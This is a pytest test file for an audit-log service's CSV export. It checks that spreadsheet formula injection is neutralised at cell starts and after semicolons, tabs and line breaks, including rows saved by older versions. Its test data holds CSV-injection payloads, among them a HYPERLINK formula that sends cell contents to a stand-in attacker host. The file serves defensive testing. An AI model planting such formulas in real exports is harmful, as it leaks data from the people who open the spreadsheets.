"""CSV injection: no cell of the export starts a formula in a spreadsheet, whichever separator the spreadsheet uses.

A spreadsheet whose list separator is ";" (most of continental Europe) splits our comma-separated lines at every
";", whatever our quoting says, so a cell ``a;=HYPERLINK(...)`` becomes a cell ``=HYPERLINK(...)`` there. A tab-
separated import does the same at tabs, and a reader that takes our quotes for text breaks rows at line breaks.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest

from centure_audit_middleware.events import Actor, Target
from centure_audit_middleware.store import EventQuery, open_store
from centure_audit_middleware.store.export import (
    FORMULA_PREFIXES,
    csv_row,
    csv_safe,
    export_cells,
    format_csv_row,
    iter_csv,
    write_csv,
)

from .store_fixtures import ORG_A, make_event

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def spreadsheet_cells(text: str) -> Iterator[str]:
    """Every cell a spreadsheet may make of `text`: an RFC 4180 reader splitting at commas, semicolons or tabs, and a
    reader that takes our quotes for text (they only delimit cells for a reader splitting at commas)."""
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row
    for separator in (";", "\t"):
        for line in re.split("\r\n|\r|\n", text):
            yield from line.split(separator)


def formulas(text: str) -> list[str]:
    return [cell for cell in spreadsheet_cells(text) if cell.startswith(FORMULA_PREFIXES)]


CASES = [
    pytest.param("=1+1", "'=1+1", id="leading ="),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="leading @"),
    pytest.param(f"a;{HYPERLINK}", f"a;'{HYPERLINK}", id="; then ="),
    pytest.param(";@SUM(A1:A9)", ";'@SUM(A1:A9)", id="; then @"),
    pytest.param("x;+1", "x;'+1", id="; then +"),
    pytest.param("x;-1", "x;'-1", id="; then -"),
    pytest.param("x;\t=1", "x;'\t'=1", id="; then tab"),
    pytest.param("x;\r=1", "x;'\r'=1", id="; then CR"),
    pytest.param('x;"=1+1"', 'x;\'"=1+1"', id="; then quote"),  # a quote there opens a cell read as typed
    pytest.param(";;=1", ";;'=1", id="; twice"),
    pytest.param("x\t=1+1", "x\t'=1+1", id="tab then ="),
    pytest.param("x\n=1+1", "x\n'=1+1", id="LF then ="),
    pytest.param("x\r\n+1", "x\r\n'+1", id="CRLF then +"),
    # A comma in a cell makes us quote the cell: a spreadsheet splitting at commas keeps it whole, one splitting at
    # semicolons never splits there. Nothing to change.
    pytest.param("x,=1+1", "x,=1+1", id=", then ="),
    pytest.param("x,@SUM(A1)", "x,@SUM(A1)", id=", then @"),
    pytest.param("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)", id="user agent"),
    pytest.param("a;b=c; d-e", "a;b=c; d-e", id="harmless ;"),
]


@pytest.mark.parametrize(("cell", "safe"), CASES)
def test_formula_triggers_are_neutralised_at_the_start_and_after_a_separator(cell: str, safe: str) -> None:
    assert csv_safe(cell) == safe
    line = format_csv_row(["evt_1", csv_safe(cell), "tail"])
    assert formulas(line) == []
    # A reader splitting at commas gets the cell back, with only the quotes we added.
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["evt_1", safe, "tail"]
    # The stored row (guarded as a whole line, for speed) says the same.
    row = csv_row(make_event(actor=Actor("user_1", name=cell)))
    assert formulas(row) == []
    assert next(csv.reader(io.StringIO(row, newline="")))[4] == safe


def test_json_columns_escape_semicolons_losslessly() -> None:
    event = make_event(
        actor=Actor("user_1", name=f"a;{HYPERLINK}"),
        targets=[Target("project", "p1", name="x;@SUM(A1)")],
        metadata={"note": "a;=1+1", "tab": "x\t=1"},
    )
    line = csv_row(event)
    assert formulas(line) == []
    cells = next(csv.reader(io.StringIO(line, newline="")))
    # ";" is written "\u003b" inside the JSON: the same value for a JSON reader, nothing for a spreadsheet to split.
    assert json.loads(cells[9]) == {"note": "a;=1+1", "tab": "x\t=1"}
    assert json.loads(cells[6]) == [{"id": "p1", "type": "project", "name": "x;@SUM(A1)"}]
    assert cells[4] == f"a;'{HYPERLINK}"


def test_rows_stored_by_an_earlier_version_are_neutralised_on_export(tmp_path: Path) -> None:
    event = make_event(user_agent=f"Mozilla/5.0 (X11;{HYPERLINK})", metadata={"note": "a;=1+1"})
    # The row as versions without the separator rule stored it: only a leading trigger was guarded.
    before = format_csv_row("'" + c if c and c.startswith(FORMULA_PREFIXES) else c for c in export_cells(event))
    with open_store(tmp_path / "audit.db") as store:
        store.append([event])
        with sqlite3.connect(tmp_path / "audit.db") as db:
            db.execute("UPDATE audit_events SET csv_row = ?", (before,))
        assert [*store.iter_csv_rows(EventQuery(ORG_A))] == [before]
        assert formulas(before) != []

        text = "".join(iter_csv(store, EventQuery(ORG_A)))
        out = io.StringIO(newline="")
        write_csv(store, EventQuery(ORG_A), out)
    assert out.getvalue() == text
    assert formulas(text) == []
    _, row = csv.reader(io.StringIO(text, newline=""))
    assert row[8] == f"Mozilla/5.0 (X11;'{HYPERLINK})"
    assert json.loads(row[9]) == {"note": "a;'=1+1"}  # still JSON; the old row had no lossless form to restore
